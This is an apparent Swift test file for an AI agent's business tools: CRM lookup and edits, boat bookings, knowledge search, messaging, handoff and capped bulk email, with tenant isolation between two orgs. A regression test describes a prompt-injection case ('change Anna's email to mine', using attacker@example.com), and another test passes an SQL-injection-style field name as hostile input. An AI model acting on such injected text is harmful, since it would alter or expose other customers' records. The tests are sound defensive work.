import Foundation
import GRDB
import PurserCore
import PurserDomain
import Testing
@testable import Tools

/// The executors of the standard tools: each action's result and effects, booking conflicts,
/// and tenant isolation between two orgs holding the same ids and the same data.
///
/// Every object carries `customProperties.tenant` naming its org, so a result or effect built
/// from the other org's row is told apart although ids, names and addresses are identical.
@Suite struct ExecutorTests {
    static let now = Timestamp(iso8601: "2026-11-25T14:30:00Z")!

    /// The objects both orgs hold, `tenant` set to the org.
    static func shared(_ org: OrgID) -> [TestObject] {
        func object(_ id: String, _ type: String, name: String? = nil, status: String? = nil, _ properties: [String: JSONValue] = [:],
                    deleted: Bool = false) -> TestObject {
            var properties = properties
            properties["tenant"] = .string(org)
            return TestObject(id: id, type: type, name: name, status: status, customProperties: .object(properties),
                              createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z", deleted: deleted)
        }
        return [
            object("c_1", "crm_contact", name: "Lisa Müller", status: "customer", ["email": "lisa@example.de", "phone": "+491701234567"]),
            object("c_2", "crm_contact", name: "Max Mustermann", status: "lead", ["email": "max@example.de"]),
            object("c_3", "crm_contact", name: "Gone Person", status: "customer", ["email": "gone@example.de"], deleted: true),
            object("c_4", "crm_contact", name: "Ohne Mail", status: "customer"),
            object("boat_1", "boat", name: "Jolle 1"),
            object("b_1", "booking", status: "confirmed", ["resourceId": "boat_1", "startsAt": "2026-12-01T10:00:00Z",
                                                           "endsAt": "2026-12-01T12:00:00Z", "contactId": "c_1", "price": 90]),
            object("b_2", "booking", status: "cancelled", ["resourceId": "boat_1", "startsAt": "2026-12-01T14:00:00Z",
                                                           "endsAt": "2026-12-01T16:00:00Z", "contactId": "c_1"]),
            object("b_3", "booking", status: "confirmed", ["resourceId": "boat_1", "startsAt": "2026-12-02T10:00:00+01:00",
                                                           "endsAt": "2026-12-02T12:00:00+01:00", "contactId": "c_2"]),
            object("kd_1", "knowledge_doc", name: "Prüfungsordnung", ["text": "Die Prüfung findet am Samstag im Hafen statt.\n\nAnmeldung bis Freitag."]),
        ]
    }

    /// Objects only org_b holds: everything an org_a call must never see or touch.
    static let onlyInB: [TestObject] = [
        TestObject(id: "c_b", type: "crm_contact", name: "Bea Bonn", status: "customer", customProperties: ["email": "bea@example.de", "tenant": "org_b"],
                   createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z"),
        TestObject(id: "boat_b", type: "boat", name: "Boot B", customProperties: ["tenant": "org_b"],
                   createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z"),
        TestObject(id: "b_b", type: "booking", status: "confirmed",
                   customProperties: ["resourceId": "boat_1", "startsAt": "2026-12-03T10:00:00Z", "endsAt": "2026-12-03T12:00:00Z",
                                      "contactId": "c_1", "tenant": "org_b"],
                   createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z"),
        TestObject(id: "kd_b", type: "knowledge_doc", name: "Geheim", customProperties: ["text": "Die Prüfung von Org B ist geheim.", "tenant": "org_b"],
                   createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z"),
    ]

    static func links(_ org: OrgID) -> [TestLink] {
        [TestLink(from: "c_1", linkType: "bookings", to: "b_1"), TestLink(from: "c_2", linkType: "bookings", to: "b_3")]
    }

    /// The two-org store, with the identity lookup the crm projector maintains.
    static func store(extra: [OrgID: [TestObject]] = [:]) throws -> DatabaseQueue {
        var orgs: [OrgID: ([TestObject], [TestLink])] = [
            "org_a": (shared("org_a"), links("org_a")),
            "org_b": (shared("org_b") + onlyInB, links("org_b")),
        ]
        for (org, objects) in extra { orgs[org, default: ([], [])].0 += objects }
        let queue = try CRMStore.make(orgs)
        try queue.write { db in
            for (org, content) in orgs {
                for object in content.0 where !object.deleted {
                    for (kind, value) in CRMExecutor.identities(of: object.customProperties) {
                        try db.execute(sql: "INSERT OR IGNORE INTO identities (org, kind, value, object_id) VALUES (?, ?, ?, ?)",
                                       arguments: [org, kind, value, object.id])
                    }
                }
            }
        }
        return queue
    }

    static let config = OrgAgentConfig(organizationId: "org_a", name: "Agent", customProperties: AgentProperties(
        knowledgeDocIds: ["kd_1", "kd_b"],
        faqEntries: [FAQEntry(q: "Was kostet der SBF Binnen Kurs?", a: "Der SBF Binnen kostet 390 Euro."),
                     FAQEntry(q: "Wo finde ich euch?", a: "Am Hafen 3 in Kiel.")],
        channelBindings: [ChannelBinding(channel: .email, enabled: true, address: "info@segelschule.de")]))

    /// A staff member's (internal) session in org_a: not limited to one customer's record.
    static let staff = context(isInternal: true)

    /// A customer's WhatsApp session in `org`, contact c_1.
    static func context(_ org: OrgID = "org_a", contactId: String? = "c_1", sessionId: String? = "s1", isInternal: Bool = false) -> ToolContext {
        ToolContext(org: org, agentId: "primary", now: now, config: config, sessionId: sessionId, contactId: contactId,
                    channel: sessionId == nil ? nil : .whatsapp, contactAddress: sessionId == nil ? nil : "+491701234567",
                    orgAddress: sessionId == nil ? nil : "+4939771234567", internalSession: isInternal,
                    makeId: { prefix in prefix + "new" })
    }

    static func call(_ tool: String, _ arguments: JSONValue, _ context: ToolContext = context(), store: DatabaseQueue? = nil) async throws -> ToolOutcome {
        let registry = ToolRegistry.standard(crm: try store ?? Self.store())
        return await registry.call(tool, arguments: arguments, context: context)
    }

    static func errorCode(_ outcome: ToolOutcome) -> String? { outcome.result["error"]?["code"]?.stringValue }

    static func tenants(_ values: [JSONValue]) -> Set<String> {
        Set(values.compactMap { $0["customProperties"]?["tenant"]?.stringValue })
    }

    // MARK: crm_tool

    @Test func crmFindsByNameAccentAndCaseInsensitively() async throws {
        let outcome = try await Self.call(ToolDefinition.crm.name, ["action": "find", "query": "MULLER"])
        let contacts = outcome.result["contacts"]?.arrayValue ?? []
        #expect(contacts.compactMap { $0["id"]?.stringValue } == ["c_1"])
        #expect(Self.tenants(contacts) == ["org_a"])
        #expect(outcome.effects.isEmpty)
        // Only org_b has Bea: org_a finds nobody.
        let bea = try await Self.call(ToolDefinition.crm.name, ["action": "find", "query": "bea"])
        #expect(bea.result["contacts"] == [] && bea.error == nil)
        let beaInB = try await Self.call(ToolDefinition.crm.name, ["action": "find", "query": "bea"], Self.context("org_b", isInternal: true))
        #expect(Self.tenants(beaInB.result["contacts"]?.arrayValue ?? []) == ["org_b"])
        // In a customer's conversation of org_b (the customer is c_1), Bea is another customer: not found.
        let beaForACustomer = try await Self.call(ToolDefinition.crm.name, ["action": "find", "query": "bea"], Self.context("org_b"))
        #expect(beaForACustomer.result["contacts"] == [])
    }

    @Test func crmFindsByNormalizedEmailAndPhone() async throws {
        let byEmail = try await Self.call(ToolDefinition.crm.name, ["action": "find", "query": "Lisa <LISA@Example.DE>"])
        #expect((byEmail.result["contacts"]?.arrayValue ?? []).compactMap { $0["id"]?.stringValue } == ["c_1"])
        let byPhone = try await Self.call(ToolDefinition.crm.name, ["action": "find", "phone": "0049 170 123 4567"])
        let contacts = byPhone.result["contacts"]?.arrayValue ?? []
        #expect(contacts.compactMap { $0["id"]?.stringValue } == ["c_1"] && Self.tenants(contacts) == ["org_a"])
        let deleted = try await Self.call(ToolDefinition.crm.name, ["action": "find", "email": "gone@example.de"])
        #expect(deleted.result["contacts"] == [])
        let nothing = try await Self.call(ToolDefinition.crm.name, ["action": "find"])
        #expect(Self.errorCode(nothing) == "missing_field")
    }

    @Test func crmCreateEmitsObjectCreatedWithNormalizedAddresses() async throws {
        let outcome = try await Self.call(ToolDefinition.crm.name, ["action": "create", "name": "Neu Kunde", "email": " Neu@Example.DE ",
                                                           "phone": "+49 (0)171 2345678", "status": "lead", "customProperties": ["source": "whatsapp"]])
        #expect(outcome.error == nil, "\(outcome.result.serialized())")
        try #require(outcome.effects.count == 1)
        #expect(outcome.effects[0].stream == "object:c_new")
        guard case .objectCreated(let created) = outcome.effects[0].event else { Issue.record("not object.created"); return }
        #expect(created.object.id == "c_new" && created.object.type == "crm_contact" && created.object.name == "Neu Kunde")
        #expect(created.object.status == "lead" && created.object.createdAt == Self.now)
        #expect(created.object.customProperties == ["email": "neu@example.de", "phone": "+491712345678", "source": "whatsapp"])
        #expect(outcome.result["created"]?["id"] == "c_new")
    }

    @Test func crmCreateRefusesAnAddressAnotherContactHas() async throws {
        let outcome = try await Self.call(ToolDefinition.crm.name, ["action": "create", "name": "Lisa 2", "email": "LISA@example.de"])
        #expect(Self.errorCode(outcome) == "conflict")
        #expect(outcome.result["error"]?["message"]?.stringValue?.contains("c_1") == true)
        #expect(outcome.effects.isEmpty)
        let byPhone = try await Self.call(ToolDefinition.crm.name, ["action": "create", "name": "X", "customProperties": ["mobile": "+49 170 1234567"]])
        #expect(Self.errorCode(byPhone) == "conflict" && byPhone.effects.isEmpty)
        // Bea's address belongs to org_b only: org_a may create a contact with it.
        let bea = try await Self.call(ToolDefinition.crm.name, ["action": "create", "name": "Bea", "email": "bea@example.de"])
        #expect(bea.error == nil && bea.effects.count == 1)
        // A deleted contact's address is free again.
        let gone = try await Self.call(ToolDefinition.crm.name, ["action": "create", "name": "Back", "email": "gone@example.de"])
        #expect(gone.error == nil && gone.effects.count == 1)
        let bad = try await Self.call(ToolDefinition.crm.name, ["action": "create", "name": "X", "phone": "0170 1234567"])
        #expect(Self.errorCode(bad) == "invalid_value" && bad.result["error"]?["field"] == "phone" && bad.effects.isEmpty)
        let empty = try await Self.call(ToolDefinition.crm.name, ["action": "create"])
        #expect(Self.errorCode(empty) == "missing_field" && empty.effects.isEmpty)
    }

    @Test func crmUpdateEmitsChangedFieldsOfTheOrgsOwnContact() async throws {
        let outcome = try await Self.call(ToolDefinition.crm.name, ["action": "update", "contactId": "c_2", "status": "customer",
                                                           "customProperties": ["course": "SBF", "email": nil]], Self.staff)
        try #require(outcome.effects.count == 1, "\(outcome.result.serialized())")
        #expect(outcome.effects[0].stream == "object:c_2")
        guard case .objectUpdated(let updated) = outcome.effects[0].event else { Issue.record("not object.updated"); return }
        #expect(updated.changedFields == ["status", "customProperties.course", "customProperties.email"])
        #expect(updated.object.status == "customer" && updated.object.name == "Max Mustermann")
        #expect(updated.object.customProperties == ["course": "SBF", "tenant": "org_a"])
        #expect(updated.object.updatedAt == Self.now)

        let same = try await Self.call(ToolDefinition.crm.name, ["action": "update", "contactId": "c_2", "status": "lead"], Self.staff)
        #expect(same.error == nil && same.effects.isEmpty && same.result["changedFields"] == [])
        // Taking another contact's address is refused.
        let clash = try await Self.call(ToolDefinition.crm.name, ["action": "update", "contactId": "c_2", "email": "lisa@example.de"], Self.staff)
        #expect(Self.errorCode(clash) == "conflict" && clash.effects.isEmpty)
        for id in ["c_3", "b_1", "c_b", "nope"] {
            let missing = try await Self.call(ToolDefinition.crm.name, ["action": "update", "contactId": .string(id), "status": "x"], Self.staff)
            #expect(Self.errorCode(missing) == "not_found" && missing.effects.isEmpty, "\(id)")
        }
    }

    @Test func crmDeleteEmitsObjectDeletedOnlyForTheOrgsContacts() async throws {
        let outcome = try await Self.call(ToolDefinition.crm.name, ["action": "delete", "contactId": "c_2", "reason": "asked to be forgotten"], Self.staff)
        try #require(outcome.effects.count == 1)
        #expect(outcome.effects[0].stream == "object:c_2")
        #expect(outcome.effects[0].event == .objectDeleted(ObjectDeleted(id: "c_2", objectType: "crm_contact", reason: "asked to be forgotten")))
        let other = try await Self.call(ToolDefinition.crm.name, ["action": "delete", "contactId": "c_b"], Self.staff)
        #expect(Self.errorCode(other) == "not_found" && other.effects.isEmpty)
        let inB = try await Self.call(ToolDefinition.crm.name, ["action": "delete", "contactId": "c_b"], Self.context("org_b", isInternal: true))
        #expect(inB.effects.count == 1)
    }

    /// Regression (issue #8, hostile input): in a customer's conversation crm_tool changes or
    /// deletes only that customer's record; another customer's id is not found, as an injected
    /// "change Anna's email to mine" must not work. Staff sessions are not limited.
    @Test(arguments: ["update", "delete"])
    func crmChangesInACustomerConversationReachOnlyThatCustomer(action: String) async throws {
        let other: JSONValue = action == "delete" ? ["action": "delete", "contactId": "c_2"]
                                                  : ["action": "update", "contactId": "c_2", "email": "attacker@example.com"]
        let own: JSONValue = action == "delete" ? ["action": "delete", "contactId": "c_1"]
                                                : ["action": "update", "contactId": "c_1", "status": "lead"]
        let customer = try await Self.call(ToolDefinition.crm.name, other)
        #expect(Self.errorCode(customer) == "not_found" && customer.effects.isEmpty, "\(customer.result.serialized())")
        let unknownContact = try await Self.call(ToolDefinition.crm.name, other, Self.context(contactId: nil))
        #expect(Self.errorCode(unknownContact) == "not_found" && unknownContact.effects.isEmpty)
        #expect(try await Self.call(ToolDefinition.crm.name, own).effects.count == 1)
        #expect(try await Self.call(ToolDefinition.crm.name, other, Self.staff).effects.count == 1)
    }

    // MARK: booking_tool

    static func availability(_ from: String, _ to: String, resource: String = "boat_1", _ context: ToolContext = context()) async throws -> ToolOutcome {
        try await call(ToolDefinition.booking.name, ["action": "availability", "resourceId": .string(resource), "from": .string(from), "to": .string(to)], context)
    }

    @Test func availabilityListsOverlappingLiveBookings() async throws {
        let busy = try await Self.availability("2026-12-01T11:00:00Z", "2026-12-01T15:00:00Z")
        #expect(busy.result["free"] == false && busy.effects.isEmpty)
        #expect((busy.result["bookings"]?.arrayValue ?? []).compactMap { $0["bookingId"]?.stringValue } == ["b_1"])
        #expect(busy.result["bookings"]?[0]?["contactId"] == nil, "availability does not reveal who booked")
        // Touching either end, or overlapping only a cancelled booking, is free.
        for (from, to) in [("2026-12-01T12:00:00Z", "2026-12-01T14:00:00Z"), ("2026-12-01T08:00:00Z", "2026-12-01T10:00:00Z"),
                           ("2026-12-01T14:00:00Z", "2026-12-01T16:00:00Z")] {
            let free = try await Self.availability(from, to)
            #expect(free.result["free"] == true && free.result["bookings"] == [], "\(from)")
        }
        // Offsets compare as instants: b_3 is 09:00Z to 11:00Z.
        let offset = try await Self.availability("2026-12-02T10:30:00Z", "2026-12-02T11:30:00Z")
        #expect((offset.result["bookings"]?.arrayValue ?? []).compactMap { $0["bookingId"]?.stringValue } == ["b_3"])
        let after = try await Self.availability("2026-12-02T11:00:00Z", "2026-12-02T12:00:00Z")
        #expect(after.result["free"] == true)
        // org_b's b_b on its own boat_1 is invisible to org_a, and org_b's own boat is unknown here.
        let bOnly = try await Self.availability("2026-12-03T10:00:00Z", "2026-12-03T12:00:00Z")
        #expect(bOnly.result["free"] == true)
        let inB = try await Self.availability("2026-12-03T10:00:00Z", "2026-12-03T12:00:00Z", Self.context("org_b"))
        #expect(inB.result["free"] == false)
        let unknown = try await Self.availability("2026-12-03T10:00:00Z", "2026-12-03T12:00:00Z", resource: "boat_b")
        #expect(Self.errorCode(unknown) == "not_found")
        let backwards = try await Self.availability("2026-12-03T12:00:00Z", "2026-12-03T12:00:00Z")
        #expect(Self.errorCode(backwards) == "invalid_value")
        let notADate = try await Self.availability("tomorrow", "2026-12-03T12:00:00Z")
        #expect(Self.errorCode(notADate) == "invalid_value" && notADate.result["error"]?["field"] == "from")
    }

    static func create(_ from: String, _ to: String, price: Double? = nil, resource: String = "boat_1",
                       _ context: ToolContext = context()) async throws -> ToolOutcome {
        var arguments: [String: JSONValue] = ["action": "create", "resourceId": .string(resource), "from": .string(from), "to": .string(to)]
        if let price { arguments["price"] = .number(price); arguments["currency"] = "eur" }
        return try await call(ToolDefinition.booking.name, .object(arguments), context)
    }

    @Test func createEmitsTheBookingAndItsLinks() async throws {
        let outcome = try await Self.create("2026-12-01T12:00:00Z", "2026-12-01T14:00:00Z", price: 90)
        #expect(outcome.error == nil, "\(outcome.result.serialized())")
        try #require(outcome.effects.count == 3)
        #expect(outcome.effects.map(\.stream) == ["object:b_new", "links:c_1", "links:b_new"])
        guard case .objectCreated(let created) = outcome.effects[0].event else { Issue.record("not object.created"); return }
        #expect(created.object.type == "booking" && created.object.status == "confirmed")
        #expect(created.object.customProperties["resourceId"] == "boat_1")
        #expect(created.object.customProperties["startsAt"] == "2026-12-01T12:00:00Z")
        #expect(created.object.customProperties["endsAt"] == "2026-12-01T14:00:00Z")
        #expect(created.object.customProperties["price"] == 90 && created.object.customProperties["currency"] == "EUR")
        #expect(created.object.customProperties["contactId"] == "c_1")
        #expect(outcome.effects[1].event == .linkCreated(LinkCreated(link: ObjectLink(from: "c_1", to: "b_new", linkType: "bookings"))))
        #expect(outcome.effects[2].event == .linkCreated(LinkCreated(link: ObjectLink(from: "b_new", to: "boat_1", linkType: "resource"))))

        // Without a session contact there is no contact link.
        let staff = try await Self.create("2026-12-05T10:00:00Z", "2026-12-05T11:00:00Z", Self.context(contactId: nil, sessionId: nil))
        #expect(staff.effects.map(\.stream) == ["object:b_new", "links:b_new"])
    }

    @Test func createRefusesOverlapsButNotTouchingOrCancelled() async throws {
        let overlap = try await Self.create("2026-12-01T11:59:00Z", "2026-12-01T13:00:00Z")
        #expect(Self.errorCode(overlap) == "conflict" && overlap.effects.isEmpty)
        #expect(overlap.result["error"]?["message"]?.stringValue?.contains("b_1") == true)
        let inside = try await Self.create("2026-12-01T10:30:00Z", "2026-12-01T11:00:00Z")
        #expect(Self.errorCode(inside) == "conflict")
        let around = try await Self.create("2026-12-01T09:00:00Z", "2026-12-01T13:00:00Z")
        #expect(Self.errorCode(around) == "conflict")
        let before = try await Self.create("2026-12-01T08:00:00Z", "2026-12-01T10:00:00Z")
        #expect(before.error == nil && before.effects.count == 3)
        let overCancelled = try await Self.create("2026-12-01T14:00:00Z", "2026-12-01T16:00:00Z")
        #expect(overCancelled.error == nil)
        // org_b's b_b does not block org_a's boat_1, but blocks org_b's.
        let overB = try await Self.create("2026-12-03T10:00:00Z", "2026-12-03T12:00:00Z")
        #expect(overB.error == nil)
        let inB = try await Self.create("2026-12-03T10:00:00Z", "2026-12-03T12:00:00Z", Self.context("org_b"))
        #expect(Self.errorCode(inB) == "conflict" && inB.result["error"]?["message"]?.stringValue?.contains("b_b") == true)
        let otherOrgsResource = try await Self.create("2026-12-03T10:00:00Z", "2026-12-03T12:00:00Z", resource: "boat_b")
        #expect(Self.errorCode(otherOrgsResource) == "not_found" && otherOrgsResource.effects.isEmpty)
        let notAResource = try await Self.create("2026-12-09T10:00:00Z", "2026-12-09T12:00:00Z", resource: "c_2")
        #expect(Self.errorCode(notAResource) == "not_found")
        let empty = try await Self.create("2026-12-09T10:00:00Z", "2026-12-09T10:00:00Z")
        #expect(Self.errorCode(empty) == "invalid_value" && empty.effects.isEmpty)
        let noCurrency = try await Self.call(ToolDefinition.booking.name, ["action": "create", "resourceId": "boat_1", "price": 10,
                                                                  "from": "2026-12-09T10:00:00Z", "to": "2026-12-09T11:00:00Z"])
        #expect(Self.errorCode(noCurrency) == "missing_field" && noCurrency.effects.isEmpty)
    }

    @Test func cancelMarksTheContactsOwnBooking() async throws {
        let outcome = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "b_1"])
        try #require(outcome.effects.count == 1)
        #expect(outcome.effects[0].stream == "object:b_1")
        guard case .objectUpdated(let updated) = outcome.effects[0].event else { Issue.record("not object.updated"); return }
        #expect(updated.object.status == "cancelled" && updated.changedFields.first == "status")
        #expect(updated.object.customProperties["tenant"] == "org_a" && updated.object.customProperties["cancelledAt"] == "2026-11-25T14:30:00Z")

        // c_1 may not cancel c_2's booking; staff in an internal session may.
        let foreign = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "b_3"])
        #expect(Self.errorCode(foreign) == "not_found" && foreign.effects.isEmpty)
        // Regression (issue #8): a customer conversation without a known contact cancels nothing.
        let unknown = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "b_3"], Self.context(contactId: nil))
        #expect(Self.errorCode(unknown) == "not_found" && unknown.effects.isEmpty)
        let staff = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "b_3"], Self.context(isInternal: true))
        #expect(staff.effects.count == 1)
        let again = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "b_2"])
        #expect(again.error == nil && again.effects.isEmpty && again.result["alreadyCancelled"] == true)
        // org_b's booking is not org_a's to cancel, whoever asks.
        let otherOrg = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "b_b"], Self.context(contactId: nil))
        #expect(Self.errorCode(otherOrg) == "not_found" && otherOrg.effects.isEmpty)
        let notABooking = try await Self.call(ToolDefinition.booking.name, ["action": "cancel", "bookingId": "c_1"], Self.context(contactId: nil))
        #expect(Self.errorCode(notABooking) == "not_found")
    }

    // MARK: knowledge_tool

    @Test func knowledgeFindsFAQAndDocumentsOfTheOrgOnly() async throws {
        let price = try await Self.call(ToolDefinition.knowledge.name, ["query": "Was kostet der SBF Binnen?"])
        #expect(price.result["matches"]?[0]?["source"] == "faq" && price.result["matches"]?[0]?["index"] == 0)
        #expect(price.effects.isEmpty)
        // Accent- and case-insensitive, through the document.
        let exam = try await Self.call(ToolDefinition.knowledge.name, ["query": "wann ist die PRUFUNG"])
        let matches = exam.result["matches"]?.arrayValue ?? []
        #expect(matches.first?["id"] == "kd_1" && matches.first?["text"] == "Die Prüfung findet am Samstag im Hafen statt.")
        // kd_b is listed in the config but lives in org_b: never returned for org_a.
        #expect(!matches.contains { $0["id"] == "kd_b" })
        let secret = try await Self.call(ToolDefinition.knowledge.name, ["query": "geheim"])
        #expect(secret.result["matches"] == [] && secret.result["note"] != nil)
        let secretInB = try await Self.call(ToolDefinition.knowledge.name, ["query": "geheim"], Self.context("org_b"))
        #expect(secretInB.result["matches"]?[0]?["id"] == "kd_b")
    }

    // MARK: send_message_tool and handoff_tool

    @Test func sendMessageGoesToTheSessionContact() async throws {
        let outcome = try await Self.call(ToolDefinition.sendMessage.name, ["text": "Ihr Kurs ist gebucht."])
        try #require(outcome.effects.count == 1)
        #expect(outcome.effects[0].stream == "session:s1")
        #expect(outcome.effects[0].event == .messageSent(MessageSent(
            messageId: "msg_new", agentId: "primary", sessionId: "s1", channel: .whatsapp, from: "+4939771234567",
            to: "+491701234567", text: "Ihr Kurs ist gebucht.")))
        let internalOutcome = try await Self.call(ToolDefinition.sendMessage.name, ["text": "Test"], Self.context(isInternal: true))
        #expect(internalOutcome.error == nil && internalOutcome.effects.isEmpty && internalOutcome.result["delivered"] == false)
        let outside = try await Self.call(ToolDefinition.sendMessage.name, ["text": "Test"], Self.context(sessionId: nil))
        #expect(Self.errorCode(outside) == "no_session" && outside.effects.isEmpty)
    }

    @Test func handoffHandsTheSessionOver() async throws {
        let outcome = try await Self.call(ToolDefinition.handoff.name, ["reason": "customer wants a refund"])
        try #require(outcome.effects.count == 1)
        #expect(outcome.effects[0].stream == "session:s1" && outcome.handsOff)
        #expect(outcome.effects[0].event == .sessionHandedOff(SessionHandedOff(sessionId: "s1", trigger: .handoffTool, reason: "customer wants a refund")))
        let outside = try await Self.call(ToolDefinition.handoff.name, ["reason": "x"], Self.context(sessionId: nil))
        #expect(Self.errorCode(outside) == "no_session" && outside.effects.isEmpty && !outside.handsOff)
    }

    // MARK: bulk_crm_email_tool

    static func recipients(_ outcome: ToolOutcome) -> [String] {
        outcome.effects.compactMap { if case .messageSent(let message) = $0.event { message.to } else { nil } }.sorted()
    }

    @Test func bulkEmailSendsOneMessagePerContactOfTheOrgsSegment() async throws {
        let extra: [OrgID: [TestObject]] = ["org_a": [
            TestObject(id: "c_5", type: "crm_contact", name: "Dup", status: "customer", customProperties: ["email": "LISA@example.de"],
                       createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z"),
            TestObject(id: "c_6", type: "crm_contact", name: "Bad", status: "customer", customProperties: ["email": "not an address"],
                       createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z"),
        ]]
        let store = try Self.store(extra: extra)
        let segment: JSONValue = ["objectType": "crm_contact", "filters": [["field": "status", "op": "eq", "value": "customer"]]]
        let outcome = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": segment, "subject": "Saisonstart", "body": "Ahoi!"], store: store)
        #expect(outcome.error == nil, "\(outcome.result.serialized())")
        // c_1 and its duplicate c_5 get one message; c_3 is deleted, c_4 has no email, c_6 a bad one; org_b's Bea never.
        #expect(Self.recipients(outcome) == ["lisa@example.de"])
        #expect(outcome.result["recipients"] == 1 && outcome.result["skippedInvalidEmail"] == ["c_6"])
        guard case .messageSent(let message)? = outcome.effects.first?.event else { Issue.record("not message.sent"); return }
        #expect(message.channel == .email && message.subject == "Saisonstart" && message.text == "Ahoi!")
        #expect(message.from == "info@segelschule.de" && outcome.effects[0].stream == "session:s1")

        let all = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact"], "subject": "S", "body": "B"], store: store)
        #expect(Self.recipients(all) == ["lisa@example.de", "max@example.de"])
        let inB = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact"], "subject": "S", "body": "B"],
                                      Self.context("org_b"), store: store)
        #expect(Self.recipients(inB) == ["bea@example.de", "lisa@example.de", "max@example.de"])
        // Outside a session each message goes on its contact's stream.
        let noSession = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": segment, "subject": "S", "body": "B"],
                                            Self.context(sessionId: nil), store: store)
        #expect(noSession.effects.map(\.stream) == ["object:c_1"])
    }

    @Test func bulkEmailRefusesOtherTypesAndBadSegments() async throws {
        let booking = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "booking"], "subject": "S", "body": "B"])
        #expect(Self.errorCode(booking) == "invalid_value" && booking.result["error"]?["field"] == "segment.objectType" && booking.effects.isEmpty)
        let badField = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact", "filters": [["field": "x'--", "op": "eq", "value": 1]]],
                                                                     "subject": "S", "body": "B"])
        #expect(Self.errorCode(badField) == "unknown_field" && badField.result["error"]?["field"] == "segment.filters[0].field")
        let aggregate = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact", "aggregate": ["type": "count"]],
                                                                      "subject": "S", "body": "B"])
        #expect(Self.errorCode(aggregate) == "invalid_value" && aggregate.effects.isEmpty)
    }

    @Test func bulkEmailIsCappedAtItsRecipientMaximum() async throws {
        let maximum = BulkEmailExecutor.bulkEmailRecipientsMax
        let many = (0...maximum).map { index in
            TestObject(id: String(format: "m_%04d", index), type: "crm_contact", status: index == 0 ? "vip" : "customer",
                       customProperties: ["email": .string("m\(index)@example.de")], createdAt: "2026-11-01T09:00:00Z", updatedAt: "2026-11-01T09:00:00Z")
        }
        let store = try Self.store(extra: ["org_c": many])
        let context = Self.context("org_c", contactId: nil)
        let tooMany = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact"], "subject": "S", "body": "B"], context, store: store)
        #expect(Self.errorCode(tooMany) == "too_many_recipients" && tooMany.effects.isEmpty)
        #expect(tooMany.result["error"]?["message"]?.stringValue?.contains("\(maximum + 1)") == true)
        let atCap = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact", "filters": [["field": "status", "op": "eq", "value": "customer"]]],
                                                                  "subject": "S", "body": "B"], context, store: store)
        #expect(atCap.error == nil && atCap.effects.count == maximum && atCap.result["recipients"] == .number(Double(maximum)))
        // An explicit page selects within the segment.
        let page = try await Self.call(ToolDefinition.bulkCRMEmail.name, ["segment": ["objectType": "crm_contact", "sort": [["field": "id", "dir": "desc"]], "limit": 2],
                                                                 "subject": "S", "body": "B"], context, store: store)
        #expect(Self.recipients(page) == ["m499@example.de", "m500@example.de"])
    }

    // MARK: registry

    @Test(arguments: [
        (ToolDefinition.crm.name, #"{"action": "delete"}"#),
        (ToolDefinition.crm.name, #"{"action": "create", "name": 5}"#),
        (ToolDefinition.booking.name, #"{"action": "create", "resourceId": "boat_1", "from": "2026-12-09T10:00:00Z", "to": "2026-12-09T11:00:00Z", "price": "90"}"#),
        (ToolDefinition.booking.name, #"{"action": "book", "resourceId": "boat_1"}"#),
        (ToolDefinition.knowledge.name, #"{"query": ""}"#),
        (ToolDefinition.sendMessage.name, #"{"text": "hi", "to": "+491709999999"}"#),
        (ToolDefinition.bulkCRMEmail.name, #"{"segment": {"objectType": "crm_contact"}, "subject": "S"}"#),
        (ToolDefinition.handoff.name, #"{"reason": "x", "to": "boss"}"#),
    ])
    func schemaInvalidCallsRunNothing(tool: String, arguments: String) async throws {
        let outcome = try await Self.call(tool, try JSONValue(parsing: arguments))
        #expect(Self.errorCode(outcome) == "invalid_arguments" || Self.errorCode(outcome) == "missing_field", "\(outcome.result.serialized())")
        #expect(outcome.effects.isEmpty && outcome.error != nil)
    }

    @Test func categoriesFollowTheCall() throws {
        let registry = ToolRegistry.standard(crm: try Self.store())
        #expect(registry.category(of: ToolDefinition.crm.name, arguments: ["action": "delete", "contactId": "c_1"]) == .deleteContact)
        #expect(registry.category(of: ToolDefinition.crm.name, arguments: ["action": "find", "query": "x"]) == .read)
        #expect(registry.category(of: ToolDefinition.crm.name, arguments: ["action": "update", "contactId": "c_1"]) == .write)
        #expect(registry.category(of: ToolDefinition.booking.name, arguments: ["action": "create", "price": 90]) == .financial)
        #expect(registry.category(of: ToolDefinition.booking.name, arguments: ["action": "create", "price": 0]) == .write)
        #expect(registry.category(of: ToolDefinition.booking.name, arguments: ["action": "create"]) == .write)
        #expect(registry.category(of: ToolDefinition.booking.name, arguments: ["action": "availability"]) == .read)
        #expect(registry.category(of: ToolDefinition.bulkCRMEmail.name, arguments: ["segment": ["objectType": "crm_contact"]]) == .bulkEmail)
        #expect(registry.category(of: ToolDefinition.sendMessage.name, arguments: ["text": "x"]) == .message)
    }

    @Test func everyStandardToolHasItsExecutor() async throws {
        let registry = ToolRegistry.standard(crm: try Self.store())
        for name in registry.names {
            let executor = try #require(registry.executor(for: name))
            #expect(!(executor is UnavailableExecutor), "\(name)")
        }
